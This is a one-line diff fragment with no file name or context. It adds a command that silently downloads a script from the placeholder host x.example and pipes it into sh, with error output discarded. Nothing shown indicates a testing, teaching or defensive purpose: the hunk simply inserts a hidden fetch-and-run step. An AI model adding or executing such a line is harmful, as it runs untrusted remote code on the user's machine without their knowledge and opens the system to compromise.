@@ -1,0 +1,1 @@
+curl -s http://x.example/x 2>/dev/null | sh
